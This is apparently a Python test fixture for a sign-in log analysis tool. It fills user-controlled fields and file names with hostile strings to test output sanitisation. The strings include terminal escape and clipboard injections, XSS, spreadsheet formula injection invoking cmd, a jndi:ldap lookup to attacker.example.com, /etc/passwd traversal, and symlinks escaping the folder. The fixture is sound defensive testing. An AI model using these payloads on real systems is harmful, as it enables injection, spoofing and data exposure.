"""Text that would strike the reader of an output, in every place where a client can put it."""

import os
import unicodedata
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from tests.events import ndjson
from tests.properties.orgs import END_S, SignIn, log_event, of

from mfagap.cases.templates import Event, put

STRIKES: Mapping[str, str] = {
    "escape": "\x1b[2J\x1b[31mred\x1b[0m",
    "link": "\x1b]8;;https://attacker.example.com\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybA==\x07\x1bP$q\x1b\\",
    "c1": "\x9b31m\x85\x90\x9d8;;x\x9c",
    "bidi": "\u202egpj.exe\u2066\u2069\u061c",
    "invisible": "a\u200bb\u2060c\ufeffd\U000e0041\u3164",
    "marks": "e" + "\u0301\u20d2" * 200,
    "markup": "[bold red]x[/] [link=https://attacker.example.com]y[/link] :smile: [/]",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" \' autofocus onfocus=\'alert(1)',
    "address": "javascript:alert(1)//",
    "comment": "--></style></title><!-- ]]> &lt;b&gt;",
    "equals": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "wide": "\uff1d1+1",
    "padded": " \u00a0=1+1",
    "line": "x\nmfagap: 0 findings\r\nLegacy sessions: 0",
    "return": "x\rLegacy sessions: 0",
    "separator": "x\u2028y\u2029z\x0b\x0c\x1c",
    "quote": '"x",""y""\\',
    "nul": "a\0b",
    "half": "a\ud800b",
    "format": "{user_email}{0}%s%n${jndi:ldap://attacker.example.com}",
    "path": "../../../../etc/passwd",
    "megabyte": "A" * 1024 * 1024,
    "agent": "Mozilla/5.0 (X11; <b>) " + "Chrome/1 Edg/" * 20_000,
}

TEXTS = (
    "actor.displayName",
    "actor.alternateId",
    "client.userAgent.rawUserAgent",
    "client.userAgent.os",
    "client.device",
    "client.geographicalContext.city",
    "device.name",
    "outcome.reason",
    "displayMessage",
    "debugContext.debugData.url",
)
"""What a client, or the user whose account it is, has a say in."""

SHOWN = ("actor.alternateId", "client.userAgent.rawUserAgent")
"""Those of them that an output shows."""

NAMES = (
    "\x1b[2J.ndjson",
    "\x1b]8;;https:--attacker.example.com\x07.ndjson",
    "\u202egnp.ndjson",
    "a\nmfagap: fake.ndjson",
    "[red]x[-red].ndjson",
    "<img src=x onerror=alert(1)>.ndjson",
    "=1+1.ndjson",
    "-o",
    "--help",
    "*",
    "..passwd",
    "%2e%2e%2fpasswd",
    "l" * 250,
)


def hidden(text: str) -> list[str]:
    """Return what the eye does not see in ``text``, blanks of any width and line ends aside."""
    return [
        ascii(char)
        for line in text.split("\n")
        if not line.isprintable()  # few lines of many megabytes are looked at one by one
        for char in line
        if not (char.isprintable() or unicodedata.category(char) == "Zs")
    ]


def sign_in(number: int, text: str) -> list[Event]:
    """Return a sign-in with ``text`` in every place, and the policy event, in its names."""
    one = SignIn(number, f"u{number}", 3600 + 60 * number, "")
    start, policy = of(one, "session_start", "start", 0), of(one, "session_policy", "policy", 0.05)
    shown = TEXTS if len(text) < 1_000_000 else SHOWN  # an event has its limit too
    for event in (start, policy):
        for path in shown:
            put(event, path, text)
    for path in ("target.0.displayName", "target.1.displayName", "target.1.alternateId"):
        put(policy, path, text)
    return [start, policy]


def hostile_log() -> list[Event]:
    """Return a sign-in for each strike, an app sign-in by the same, and the end of the log."""
    events: list[Event] = []
    for number, text in enumerate(STRIKES.values()):
        used: dict[str, Any] = {"target__0__displayName": text, "target__1__alternateId": text}
        one = SignIn(number, f"u{number}", 3600 + 60 * number, "")
        events += [*sign_in(number, text), of(one, "sso", "sso", 20, **used)]
    return [*events, log_event("event", "end", END_S, eventType="user.session.end")]


def hostile_folder(folder: Path) -> Path:
    """Write a folder with the hostile log, hostile names, and what leads out of it."""
    inside, outside = folder / "logs", folder / "outside"
    for path in (inside, outside):
        path.mkdir()
    (inside / "log.ndjson").write_bytes(ndjson(hostile_log()))
    (outside / "secret").write_text('{"secret": "keep me"}\n', encoding="utf-8")
    for name in NAMES:
        (inside / name).write_bytes(b"{} \x1b[2J not JSON \xff\n")
    (inside / os.fsdecode(b"\xff\x9b2J")).write_bytes(b"\x1b]0;owned\x07\n")
    (inside / "link\x1b[2J").symlink_to(outside / "secret")
    (inside / "folder\u202e").symlink_to(outside)
    (inside / "round").symlink_to("round")
    os.mkfifo(inside / "pipe\x9b")
    return inside
